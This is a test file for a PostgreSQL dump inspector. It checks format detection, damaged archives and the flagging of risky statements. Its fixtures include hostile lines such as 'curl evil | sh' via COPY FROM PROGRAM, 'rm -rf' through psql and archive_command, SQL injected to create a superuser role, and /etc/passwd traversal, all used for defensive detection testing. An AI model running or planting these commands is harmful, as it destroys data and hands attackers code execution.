// What people send when a dump was asked for: each is told by its content, in one sentence, with the next step.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, describe, expect, it } from 'vitest'
import { xrayFile } from '../../../electron/core/xray/xray-file.ts'
import { createTestHost } from '../../helpers/test-host.ts'
import { shopEntries, writeCustom, writeDirectory, writePgTar, writeTar } from '../../helpers/write-archive.ts'

const root = mkdtempSync(join(tmpdir(), 'gw-xray-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))
const host = createTestHost()
let number = 0
const write = (bytes: Buffer | string, name = `file-${number++}`): string => {
  writeFileSync(join(root, name), bytes)
  return join(root, name)
}
const look = (path: string) => xrayFile(host, path)
const archive = writeCustom({ minor: 14, entries: shopEntries })

const utf16 = (bytes: Buffer) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(bytes.toString('latin1').replaceAll('\n', '\r\n'), 'utf16le')])
const mysql =
  '-- MySQL dump 10.13\n/*!40101 SET NAMES utf8 */;\nCREATE TABLE `a` (`id` int(11) NOT NULL AUTO_INCREMENT, PRIMARY KEY (`id`)) ENGINE=InnoDB DEFAULT CHARSET=utf8;\nLOCK TABLES `a` WRITE;\n'
const sqlite =
  'PRAGMA foreign_keys=OFF;\nBEGIN TRANSACTION;\nCREATE TABLE a (id INTEGER PRIMARY KEY AUTOINCREMENT);\nINSERT INTO sqlite_sequence VALUES(1,2);\nCOMMIT;\n'
const tsql =
  'USE [master]\nGO\nSET ANSI_NULLS ON\nGO\nCREATE TABLE [dbo].[a]([id] [int] IDENTITY(1,1) NOT NULL, [n] [nvarchar](50))\nGO\n'

describe('what is no dump', () => {
  it.each([
    ['MySQL', mysql, /SQL of MySQL or MariaDB/, /pgloader/],
    ['SQLite as text', sqlite, /SQL of SQLite/, /pgloader/],
    [
      'SQLite as a file',
      Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(2000)]),
      /SQLite database file/,
      /pgloader/,
    ],
    ['SQL Server script', tsql, /SQL of Microsoft SQL Server/, /PostgreSQL version/],
    [
      'SQL Server backup',
      Buffer.concat([Buffer.from('TAPE\0\0'), Buffer.alloc(500)]),
      /SQL Server backup/,
      /Restore it on SQL Server/,
    ],
    ['an error page', '<!DOCTYPE html><html><body>404 Not Found</body></html>', /web page/, /download/],
    [
      'an error of S3',
      '<?xml version="1.0"?>\n<Error><Code>AccessDenied</Code></Error>',
      /error message of a storage service/,
      /expired/,
    ],
    ['JSON', '{"message": "Not Found"}', /This is JSON/, /./],
    ['nothing', '', /empty/, /saved or downloaded/],
    ['only zeros', Buffer.alloc(5000), /no kind that is known/, /encrypted, damaged/],
    [
      'noise',
      Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919 + ((i * i) % 251)) % 256)),
      /no kind that is known|control/,
      /./,
    ],
    [
      'OpenSSL',
      Buffer.concat([Buffer.from('Salted__'), Buffer.alloc(500, 0xa7)]),
      /encrypted \(OpenSSL\)/,
      /key or the password/,
    ],
    ['PGP', '-----BEGIN PGP MESSAGE-----\n\nhQEMA\n', /encrypted \(PGP\)/, /key or the password/],
    ['an archive through PowerShell', utf16(archive), /is destroyed: .*UTF-16.*PowerShell/, /pg_dump -f FILE/],
    ['an archive as UTF-8', Buffer.from(archive.toString('utf8')), /is destroyed: .*UTF-8/, /pg_dump -f FILE/],
    [
      'an archive through FTP',
      Buffer.from(archive.toString('latin1').replaceAll('\n', '\r\n'), 'latin1'),
      /is destroyed: its line ends/,
      /as binary/,
    ],
    ['Base64', archive.toString('base64'), /Base64/, /base64 -d/],
    ['7z', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), Buffer.alloc(90)]), /7z/, /7-Zip/],
    ['Git LFS', 'version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 1\n', /Git LFS/, /git lfs pull/],
    [
      'a picture',
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(90)]),
      /picture/,
      /./,
    ],
    [
      'a base backup',
      writeTar([{ name: 'backup_label', data: Buffer.from('x') }]),
      /base backup/,
      /start a PostgreSQL/,
    ],
  ])('%s', async (_, bytes, sentence, nextStep) => {
    const found = await look(write(bytes))
    expect(found.sentence).toMatch(sentence)
    expect(found.verdict).toMatchObject({
      kind: 'cannot',
      sentence: expect.stringMatching(/^Cannot be restored, because .+\.$/),
    })
    expect(found.findings[0]?.hint).toMatch(nextStep)
    expect(found.kind === 'not-a-dump' || found.kind === 'archive').toBe(true)
  })
  it.each([gzipSync(mysql), gzipSync('<html>x</html>'), gzipSync('')])(
    'nor does it become one in gzip',
    async (bytes) => {
      const found = await look(write(bytes))
      expect(found).toMatchObject({ kind: 'not-a-dump', verdict: { kind: 'cannot' } })
      expect(found.layers[0]).toBe('gzip')
    },
  )
  it('never by name', async () => {
    expect(await look(write(archive, 'shop.sql'))).toMatchObject({ layers: ['archive-custom'], kind: 'archive' })
    expect(await look(write('CREATE TABLE t (id int);', 'shop.dump'))).toMatchObject({
      layers: ['script'],
      kind: 'script',
    })
    expect(await look(write(archive, 'custom.tar'))).toMatchObject({
      layers: ['archive-custom'],
      archive: { format: 'custom' },
    })
  })
})

describe('archives that are not whole', () => {
  it.each([
    ['cut off in the header', archive.subarray(0, 20), /ends in the middle of its table of contents|too short|text of/],
    [
      'cut off in the table of contents',
      archive.subarray(0, 900),
      /ends in the middle of its table of contents|text of/,
    ],
    [
      'garbage behind PGDMP',
      Buffer.concat([archive.subarray(0, 60), Buffer.alloc(3000, 0x5a)]),
      /damaged|text of|too large/,
    ],
    [
      'zeros behind PGDMP',
      Buffer.concat([archive.subarray(0, 16), Buffer.alloc(3000)]),
      /empty behind its first bytes/,
    ],
  ])('%s', async (_, bytes, sentence) => {
    const found = await look(write(bytes))
    expect(found).toMatchObject({ kind: 'archive', verdict: { kind: 'cannot' } })
    expect(found.sentence).toMatch(sentence)
    expect(found.sentence).not.toContain(root)
    expect(found.findings[0]?.hint).not.toBe('')
  })
  it('without its last table', async () => {
    const found = await look(write(archive.subarray(0, archive.length - 60)))
    expect(found.verdict).toMatchObject({
      kind: 'will-restore-without',
      sentence: expect.stringMatching(/without the (end of its data|rows of)/),
    })
    expect(found.findings.map(({ code }) => code)).toContain('cut-off')
  })
  it('without two files of its folder', async () => {
    const folder = writeDirectory(join(root, 'incomplete'), { minor: 14, entries: shopEntries })
    rmSync(join(folder, '7.dat.gz'))
    const found = await look(folder)
    expect(found.findings).toContainEqual(
      expect.objectContaining({ code: 'data-missing', severity: 'error', objects: ['public.customer'] }),
    )
    expect(found.verdict.sentence).toMatch(/^Will restore without the rows of public\.customer/)
  })
})

describe('folders', () => {
  it('one level too high: says which', async () => {
    writeDirectory(join(root, 'outer/inner'), { minor: 14, entries: shopEntries })
    expect(await look(join(root, 'outer'))).toMatchObject({
      verdict: { kind: 'cannot' },
      sentence: expect.stringMatching(/one folder deeper/),
      findings: [{ hint: `Name the folder ${join(root, 'outer/inner')}.` }],
    })
  })
  it('a toc.dat alone', async () => {
    const folder = writeDirectory(join(root, 'whole'), { minor: 14, entries: shopEntries })
    expect(await look(join(folder, 'toc.dat'))).toMatchObject({
      verdict: { kind: 'cannot' },
      findings: [{ hint: 'Name the folder it lies in.' }],
    })
    expect(await look(folder)).toMatchObject({ kind: 'archive', layers: ['archive-directory'] })
  })
  it('no toc.dat, a data directory, nothing of it', async () => {
    mkdirSync(join(root, 'data/base'), { recursive: true })
    writeFileSync(join(root, 'data/PG_VERSION'), '15\n')
    expect((await look(join(root, 'data'))).sentence).toMatch(/data directory of a server/)
    mkdirSync(join(root, 'parts'))
    writeFileSync(join(root, 'parts/3012.dat.gz'), 'x')
    expect((await look(join(root, 'parts'))).sentence).toMatch(/without its toc\.dat/)
    mkdirSync(join(root, 'other'))
    expect((await look(join(root, 'other'))).verdict.kind).toBe('cannot')
  })
  it('a file that is not there is a failure, not an answer', async () => {
    await expect(look(join(root, 'nowhere'))).rejects.toMatchObject({ failure: { kind: 'file-missing' } })
  })
})

describe('dumps of a whole server', () => {
  const head =
    "--\n-- PostgreSQL database cluster dump\n--\n\nCREATE ROLE postgres;\nALTER ROLE postgres WITH NOSUPERUSER;\n\\connect template1\n-- Dumped from database version 15.1\nSET search_path = '';\n"
  const one = (name: string) =>
    `CREATE DATABASE ${name};\n\\connect ${name}\nCREATE TABLE public.t (id int);\nCOPY public.t (id) FROM stdin;\n1\n\\.\n`
  it('as text: one of its databases', async () => {
    for (const bytes of [Buffer.from(head + one('shop')), gzipSync(head + one('shop'))]) {
      expect(await look(write(bytes))).toMatchObject({
        kind: 'dumpall',
        risks: [],
        objects: { tables: 1 },
        tables: [{ name: 'public.t', rows: 1 }],
        verdict: { kind: 'will-restore', sentence: 'Will restore.' },
        findings: [
          {
            code: 'whole-server',
            message: expect.stringMatching(/database shop is restored; roles, tablespaces and settings are left out/),
          },
        ],
      })
    }
    const two = await look(write(head + one('shop') + one('"Other one"')))
    expect(two.verdict).toEqual({ kind: 'will-restore-without', sentence: 'Will restore without its other database.' })
    expect(two.findings).toMatchObject([
      {
        code: 'several-databases',
        objects: ['shop', 'Other one'],
        message: expect.stringMatching(
          /It holds 2 databases: shop, Other one\. One of them is restored: the one whose name the new database is given\./,
        ),
      },
    ])
    expect(two.sentence).toMatch(/^A dump of a whole server \(pg_dumpall\) with the databases shop, Other one: /)
  })
  it('as text, with nothing to restore', async () => {
    expect(await look(write(head))).toMatchObject({
      kind: 'dumpall',
      verdict: { kind: 'cannot', sentence: expect.stringMatching(/holds no database/) },
    })
  })
  it('a dump of one database that makes it itself', async () => {
    const found = await look(
      write(
        `-- Dumped from database version 15.1\n-- Dumped by pg_dump version 15.1\n${one('shop')}-- PostgreSQL database dump complete\n`,
      ),
    )
    expect(found).toMatchObject({
      kind: 'script',
      risks: [],
      verdict: { kind: 'will-restore' },
      objects: { tables: 1 },
      sentence: expect.stringMatching(/by pg_dump 15\.1 of shop: /),
    })
  })
  it('what stands behind a \\connect is looked at as well', async () => {
    const found = await look(
      write(`\\connect shop\nCREATE TABLE t (id int);\nALTER SYSTEM SET a.b = 1;\nCOPY t FROM PROGRAM 'id';\n`),
    )
    expect(found.risks.map(({ id }) => id).toSorted()).toEqual([
      'program:copy-program-runs-a-program-on-the-server',
      'server:changes-the-settings-of-the-whole-server',
    ])
  })
  describe('as an archive', () => {
    const role = (name: string, more: string): string => `CREATE ROLE ${name};\nALTER ROLE ${name} WITH ${more};\n`
    const globals = writeCustom({
      minor: 16,
      entries: [
        { dumpId: 1, desc: 'ENCODING', tag: 'ENCODING', definition: "SET client_encoding = 'UTF8';\n" },
        {
          dumpId: 2,
          desc: 'ROLE',
          tag: 'ROLE postgres',
          definition: role('postgres', "SUPERUSER LOGIN PASSWORD 'hush'"),
        },
        { dumpId: 3, desc: 'ROLE', tag: 'ROLE "Odd; role"', definition: role('"Odd; role"', 'NOSUPERUSER LOGIN') },
        {
          dumpId: 4,
          desc: 'TABLESPACE',
          tag: 'TABLESPACE fast',
          definition: "CREATE TABLESPACE fast OWNER postgres LOCATION '/fast';\n",
        },
        { dumpId: 5, desc: 'DROP_GLOBAL', tag: 'DATABASE shop', dropStatement: 'DROP DATABASE IF EXISTS shop;\n' },
      ],
    })
    const empty = writeCustom({
      minor: 16,
      entries: [{ dumpId: 1, desc: 'ENCODING', tag: 'ENCODING', definition: "SET client_encoding = 'UTF8';\n" }],
    })
    const map = '###\n# map.dat\n###\n1 template1\n5 postgres\n16384 my shop\n#16390 taken out\n'
    const files = [
      { name: 'toc.glo', data: globals },
      { name: 'map.dat', data: Buffer.from(map) },
      { name: 'databases/1.dmp', data: empty },
      { name: 'databases/5.dmp', data: empty },
      { name: 'databases/16384.dmp', data: archive },
    ]
    const folderOf = (all: typeof files): string => {
      const folder = mkdtempSync(join(root, 'cluster-'))
      mkdirSync(join(folder, 'databases'))
      for (const { name, data } of all) writeFileSync(join(folder, name), data)
      return folder
    }
    it('of a folder, and in a tar or zip: one of its databases', async () => {
      for (const path of [
        folderOf(files),
        write(gzipSync(writeTar(files.map((one) => ({ ...one, name: `c/${one.name}` }))))),
        write(writeTar(files)),
      ]) {
        const found = await look(path)
        expect(found.layers.at(-1)).toBe('dumpall-archive')
        expect(found.kind).toBe('dumpall')
        expect(found.sentence).toBe(
          'An archive of a whole server (pg_dumpall) with the database my shop, 2 roles and 1 tablespace.',
        )
        expect(found.findings.map(({ code }) => code)).toContain('whole-server')
        expect(found.objects.tables).toBe((await look(write(archive))).objects.tables)
        expect(found.verdict.kind).not.toBe('cannot')
        expect(JSON.stringify(found)).not.toContain('hush')
      }
    })
    it('of several databases: says which', async () => {
      const found = await look(
        folderOf([...files.filter(({ name }) => !name.endsWith('/5.dmp')), { name: 'databases/5.dmp', data: archive }]),
      )
      expect(found.findings.find(({ code }) => code === 'several-databases')?.objects).toEqual(['postgres', 'my shop'])
    })
    it('with parts missing, or nothing in it', async () => {
      const found = await look(folderOf(files.filter(({ name }) => !name.endsWith('/1.dmp'))))
      expect(found.findings.find(({ code }) => code === 'data-missing')?.message).toContain('template1')
      for (const part of [
        files.slice(0, 4),
        files.slice(0, 1),
        [files[0]!, { name: 'map.dat', data: Buffer.from('x\n99999999999 y\n../7 z\n') }],
      ])
        expect(await look(folderOf(part))).toMatchObject({ kind: 'dumpall', verdict: { kind: 'cannot' } })
    })
  })
})

describe('scripts', () => {
  it('counts rows, whatever they are written in', async () => {
    const text =
      '-- Dumped from database version 18.0\n-- Dumped by pg_dump version 18.1\nCREATE TABLE public.a (id int);\nCREATE TABLE public.b (id int);\nCOPY public.a (id) FROM stdin;\n1\n2\n3\n\\.\n'
    const forms: [Buffer, string][] = [
      [Buffer.from(text), 'UTF8'],
      [Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text.replaceAll('\n', '\r\n'))]), 'UTF8'],
      [Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), 'UTF16LE'],
      [gzipSync(text), 'UTF8'],
    ]
    for (const [bytes, encoding] of forms) {
      const found = await look(write(bytes))
      expect(found).toMatchObject({
        kind: 'script',
        verdict: { kind: 'will-restore', sentence: 'Will restore.' },
        needs: { encoding, pgRestoreMajor: null },
        objects: { tables: 2 },
      })
      expect(found.tables).toEqual([
        { name: 'public.a', rows: 3, bytes: null },
        { name: 'public.b', rows: null, bytes: null },
      ])
      expect(found.sentence).toBe(
        `A plain dump by pg_dump 18.1: ${found.script?.statements} statements, 3 rows in 1 table.`,
      )
    }
  })
  it('names what needs a yes', async () => {
    const text =
      "CREATE TABLE t (id int);\n\\! rm -rf ~\n\\copy t from 'x'\nCOPY t FROM PROGRAM 'id';\nALTER SYSTEM SET a.b = 1;\nALTER ROLE postgres NOSUPERUSER;\nCREATE DATABASE other;\nCREATE SERVER s FOREIGN DATA WRAPPER file_fdw;\nCREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f();\nCREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$x$$;\nCREATE FUNCTION g() RETURNS int LANGUAGE plpython3u AS $$x$$;\n"
    const { risks, verdict } = await look(write(text))
    const ids = risks.map(({ id }) => id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const id of [
      'program:copy-program-runs-a-program-on-the-server',
      'psql:a-command-for-psql-that-runs-a-program-on-this-computer',
      'server:changes-the-settings-of-the-whole-server',
      'superuser:event-triggers-are-for-superusers',
      'superuser:functions-in-plpython3u-are-for-superusers',
      'server:changes-a-role-which-all-databases-of-the-server-share',
      'server:reads-from-another-server-or-a-file',
    ])
      expect(ids).toContain(id)
    expect(risks.find(({ id }) => id.includes('plpython3u'))).toMatchObject({
      where: expect.stringMatching(/:10 and 1 more$/),
    })
    expect(verdict).toMatchObject({
      kind: 'will-restore-without',
      sentence: expect.stringMatching(/without what its commands for psql do and 6 things that need your yes/),
    })
  })
})

describe('archives', () => {
  it('says what is in it and what it needs', async () => {
    const entries = [
      {
        dumpId: 90,
        desc: 'DATABASE',
        tag: 'shop',
        schema: null,
        definition:
          "CREATE DATABASE shop WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE_PROVIDER = libc LOCALE = 'de_DE.UTF-8';\n",
      },
      ...shopEntries,
      {
        dumpId: 91,
        desc: 'ACL',
        tag: 'TABLE customer',
        definition:
          'GRANT ALL ON TABLE public.customer TO rds_superuser;\nGRANT ALL ON TABLE public.customer TO anon;\n',
      },
    ]
    const found = await look(write(gzipSync(writeCustom({ minor: 16, entries }))))
    expect(found).toMatchObject({
      kind: 'archive',
      layers: ['gzip', 'archive-custom'],
      archive: { version: '1.16', databaseName: 'shop', needsPgRestore: 17 },
      objects: { tables: 2, constraints_pk: 1, indexes: 1, extensions: 1 },
      needs: { pgRestoreMajor: 17, encoding: 'UTF8', locale: 'de_DE.UTF-8', languages: [] },
      verdict: { kind: 'will-restore' },
    })
    expect(found.archive).not.toHaveProperty('entries')
    expect(found.needs.extensions).toEqual([
      {
        name: 'citext',
        neededBy: 2,
        objects: ['TABLE public.customer', 'CONSTRAINT public.customer customer_pkey'],
        available: null,
        trusted: null,
      },
    ])
    expect(found.needs.roles).toEqual([
      { name: 'Reader', exists: null, cloud: null },
      { name: 'anon', exists: null, cloud: null },
      { name: 'postgres', exists: null, cloud: null },
      { name: 'rds_superuser', exists: null, cloud: 'Amazon RDS' },
      { name: 'shop_owner', exists: null, cloud: null },
    ])
    expect(found.findings.map(({ code }) => code)).toContain('cloud-roles')
  })
  it('tar and directory give the same answer', async () => {
    const tar = await look(write(writePgTar({ minor: 14, entries: shopEntries })))
    const folder = await look(writeDirectory(join(root, 'same'), { minor: 14, entries: shopEntries }))
    const custom = await look(write(archive))
    expect(tar.objects).toEqual(custom.objects)
    expect(folder.objects).toEqual(custom.objects)
    expect([tar, folder, custom].map(({ tables }) => tables.map(({ name }) => name))).toEqual(
      Array.from({ length: 3 }, () => ['public.customer', 'public."Größe"']),
    )
  })
  it('finds what was hidden in it', async () => {
    const hidden = [
      ...shopEntries,
      {
        dumpId: 50,
        desc: 'TABLE',
        tag: 'innocent',
        definition: "CREATE TABLE public.innocent (id int);\nALTER SYSTEM SET archive_command = 'rm -rf /';\n",
      },
      {
        dumpId: 51,
        desc: 'TABLE DATA',
        tag: 'innocent',
        copyStatement: "COPY public.innocent FROM PROGRAM 'curl evil | sh';\n",
        data: Buffer.from('\\.\n'),
      },
      { dumpId: 52, desc: 'VIEW', tag: 'open', definition: "CREATE VIEW public.open AS SELECT '" },
      { dumpId: 53, desc: 'VIEW', tag: 'inside', definition: 'ALTER ROLE postgres NOSUPERUSER;\n' },
      { dumpId: 54, desc: 'VIEW', tag: 'close', definition: "';\n" },
      {
        dumpId: 55,
        desc: 'SEQUENCE SET',
        tag: 's',
        definition: "SELECT pg_catalog.setval('public.s', 1, true); CREATE ROLE evil SUPERUSER;\n",
      },
      { dumpId: 56, desc: 'COMMENT', tag: 'x', definition: '\\! touch /tmp/groundwork-owned\n' },
    ]
    const { risks, verdict } = await look(write(writeCustom({ minor: 14, entries: hidden })))
    const seen = risks.map(({ id, where }) => `${id} @ ${where}`).join('\n')
    for (const wanted of [
      /server:changes-the-settings\S* @ entry 50, TABLE public\.innocent/,
      /program:rows-are-loaded\S* @ entry 51/,
      /unreadable:its-quotes\S* @ entry 52, VIEW public\.open and 2 more/,
      /server:changes-a-role\S* @ entry 53/,
      /server:makes-a-role\S* @ entry 55/,
      /server:makes-a-role\S* @ entry 55/,
    ])
      expect(seen).toMatch(wanted)
    expect(verdict.kind).toBe('will-restore-without')
  })
})

describe('text', () => {
  const dump =
    '-- Dumped from database version 15.1\n-- Dumped by pg_dump version 15.1\nCREATE TABLE public.a (id int);\nCOPY public.a (id) FROM stdin;\n1\n2\n'
  it.each([
    ['a letter', 'Hello, this is a letter.\nBest wishes', 'cannot', /nothing in it is SQL/],
    ['a list of values', 'id,name\n1,foo\n2,bar\n', 'cannot', /nothing in it is SQL/],
    ['only comments', '-- nothing\n', 'cannot', /nothing in it is SQL/],
    ['a dump cut off in its rows', dump, 'will-restore-without', /^Will restore without the end of its data\.$/],
    [
      'the same in UTF-16',
      Buffer.from(`\ufeff${dump}`, 'utf16le'),
      'will-restore-without',
      /without the end of its data/,
    ],
    ['a dump somebody worked on', `${dump}\\.\nSELECT 1;\n`, 'will-restore', /^Will restore\.$/],
    ['a whole dump', `${dump}\\.\n--\n-- PostgreSQL database dump complete\n--\n`, 'will-restore', /^Will restore\.$/],
  ])('%s', async (_, text, kind, sentence) => {
    const { verdict } = await look(write(text))
    expect(verdict.kind).toBe(kind)
    expect(verdict.sentence).toMatch(sentence)
  })
})

describe('what a script names on this computer', () => {
  it('is not opened', async () => {
    writeFileSync(join(root, 'private.sql'), 'CREATE TABLE private (id int);\n')
    const path = write(
      'CREATE TABLE own (id int);\n\\i private.sql\n\\i /dev/zero\n\\ir ../../../../../../etc/passwd\n',
    )
    const found = await look(path)
    expect(found.objects).toMatchObject({ tables: 1 })
    expect(found.risks.map(({ id }) => id)).toEqual([
      'psql:a-command-for-psql-that-reads-or-writes-a-file-of-this-computer',
    ])
    expect(JSON.stringify(found)).not.toContain('root:')
  })
  it("may be, for a script of one's own; but no device", async () => {
    const own = await xrayFile(host, write('CREATE TABLE own (id int);\n\\i private.sql\n'), { followIncludes: true })
    expect(own.objects).toMatchObject({ tables: 2 })
    const device = await xrayFile(host, write('CREATE TABLE own (id int);\n\\i /dev/zero\n'), { followIncludes: true })
    expect(device.findings.map(({ message }) => message).join()).toMatch(/no ordinary file/)
  })
})
